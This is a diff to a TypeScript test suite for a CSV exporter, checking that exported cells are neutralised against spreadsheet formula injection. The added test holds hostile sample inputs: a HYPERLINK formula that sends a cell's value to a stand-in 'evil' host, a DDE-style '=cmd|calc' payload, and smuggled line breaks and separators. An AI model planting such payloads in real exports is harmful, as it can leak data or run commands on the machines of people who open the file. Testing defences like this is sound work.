@@ -52,8 +52,8 @@ describe('the CSV', () => {
     expect(gap).toMatchObject({ number: '2', numberTo: '5', act: 'missing-or-unreadable', time: '' });
   });
 
-  it('gives back any text whole', () => {
-    for (const name of ['Ion, "Ana" & Fiii', 'două\r\nrânduri', 'Åström;Öst', '"', ',', "O'Neill", '١٢']) {
+  it('gives back any line whole', () => {
+    for (const name of ['Ion, "Ana" & Fiii', 'Åström Öst', '"', ',', "O'Neill", '١٢']) {
       expect(csvOf([row(1, { name })])[0]?.['name']).toBe(name);
     }
   });
@@ -68,7 +68,15 @@ describe('the CSV', () => {
       ...entry,
       entry: { ...(entry.kind === 'entry' ? entry.entry : null), name: '\t=1' },
     } as ActivityRow;
-    expect(csvOf([tabbed])[0]?.['name']).toBe("'\t=1");
+    expect(csvOf([tabbed])[0]?.['name']).toBe("' =1");
+  });
+
+  it('begins no other line or cell within a text, where a semicolon separates cells too', () => {
+    const name = 'Cabinet;=HYPERLINK("http://evil/"&A1)';
+    const recipient = 'SAGA\r\n=cmd|calc\u2028\u0000;-1';
+    const [first] = csvOf([row(1, { name, recipient })]);
+    expect(first).toMatchObject({ name: 'Cabinet =HYPERLINK("http://evil/"&A1)', recipient: 'SAGA  =cmd|calc   -1' });
+    expect(csvOf([row(1, { name: ';=1' })])[0]?.['name']).toBe("' =1");
   });
 
   it('writes times with their distance from UTC', () => {
